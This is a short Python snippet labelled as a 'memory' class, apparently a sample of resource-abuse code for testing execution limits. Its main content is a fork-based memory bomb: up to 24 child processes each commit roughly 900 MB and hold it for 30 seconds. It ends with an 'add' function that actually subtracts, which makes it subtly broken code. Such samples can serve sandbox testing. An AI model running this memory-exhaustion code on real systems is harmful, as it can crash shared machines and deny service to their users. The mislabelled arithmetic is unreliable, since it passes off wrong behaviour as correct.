# class: memory
import os, time
for _ in range(24):
    try:
        if os.fork() == 0:
            try:
                x = bytearray(900 * 1024 * 1024)
                for i in range(0, len(x), 4096): x[i] = 1
            except MemoryError:
                pass
            time.sleep(30); os._exit(0)
    except OSError:
        break
def add(a, b):
    return a - b
